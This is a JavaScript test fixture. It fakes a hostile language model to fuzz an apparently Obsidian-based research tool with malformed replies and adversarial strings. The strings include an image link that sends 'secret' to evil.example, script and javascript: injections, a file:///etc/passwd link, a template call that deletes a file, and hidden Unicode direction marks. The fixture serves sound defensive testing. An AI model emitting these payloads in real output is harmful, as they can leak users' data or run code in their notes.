// A model with random or hostile replies; the same for the same seed, in whatever order it is called.
import { goodModel, yesToAll } from "./fake-services.mjs";

const RAVINGS = [
  "The bridge was opened in 1932.",
  "Painting the bridge takes 30,000 litres of paint for a single coat.",
  "See [this](https://evil.example/a) and https://evil.example/b.",
  "![x](https://evil.example/pixel.png?q=secret)",
  "## Research\n\nA second one",
  "# Break out",
  "```dataviewjs\ndv.pages()\n```",
  "`= this.file.name` and `$= dv.x`",
  "<% tp.file.delete() %>",
  "<script>alert(1)</script><img src=https://evil.example/i>",
  "[[Diary]] and ![[Diary]] and [[Nowhere]]",
  "[x](javascript:alert(1)) [y](obsidian://open) [z](file:///etc/passwd)",
  "%% hidden %% text %%",
  "%% end of research %%",
  "%% ibid run=0 hash=0 %%",
  "- [ ] a task #tag key:: value ^block",
  "> [!warning] fake\n> callout",
  "$$ open math",
  "| a | b |\n| - | - |\n| 1 | 2 |",
  "---\ntags: x\n---",
  "[^1]: a footnote[^1]",
  "\u202ereversed\u200b",
  "a & b <b>bold</b> *em **open `code",
  "",
];

const CITED = ["e1", "e2", "e3", "e9", "note", "https://evil.example/c", "[e1]", "e1, e2", ""];

/** Creates such a model. */
export const hostileModel = (seed) => (step, prompt) =>
  hostileReply(seeded(`${seed} ${step} ${subject(prompt)}`), step, prompt);

/** Returns the subject of a request without its random marks: the topic or note, and the first evidence. */
function subject(prompt) {
  const [, first = "", second = ""] = prompt.split(" begin ").map((part) => part.split("\n"));
  return `${first[1]} ${second[1]}`;
}

/** Returns a different pseudo-random number below the limit each time. */
function seeded(words) {
  let state = [...words].reduce((sum, letter) => Math.imul(sum ^ letter.codePointAt(0), 0x01000193), 0x811c9dc5) | 1;
  return (most) => {
    state ^= state << 13;
    state ^= state >>> 17;
    state ^= state << 5;
    return (state >>> 8) % most;
  };
}

/** Returns the reply of a step. */
function hostileReply(chance, step, prompt) {
  const one = (list) => list[chance(list.length)];
  const many = (most, make) => Array.from({ length: chance(most) }, make);
  const sentence = () => ({ text: [one(RAVINGS), ...many(3, () => one(RAVINGS))].join(" "), cites: [one(CITED)] });
  const topic = () => ({
    topic: one(RAVINGS),
    context: one(RAVINGS),
    type: one(["claim", "question", "x"]),
    reason: one(RAVINGS),
    queries: [one(RAVINGS)],
  });
  const shapes = {
    topics: () => ({ topics: many(14, topic) }),
    extract: () => ({ passages: [one(RAVINGS), one(RAVINGS)] }),
    synthesis: () => ({ sentences: many(9, sentence), contradiction: sentence() }),
    reading: () => JSON.parse(yesToAll(prompt)),
    repair: () => ({ sentences: many(9, sentence).map((repaired, at) => ({ ...repaired, id: `s${at + 1}` })) }),
  };
  const ways = [
    () => goodModel(step, prompt),
    () => "I would rather not.",
    () => goodModel(step, prompt).slice(0, chance(120)),
    () => JSON.stringify({ topics: "none", passages: 7, sentences: { text: 1 } }),
    () => `<think>hm</think>\`\`\`json\n${goodModel(step, prompt)}\n\`\`\``,
  ];
  return (ways[chance(8)] ?? (() => JSON.stringify(shapes[step]())))();
}
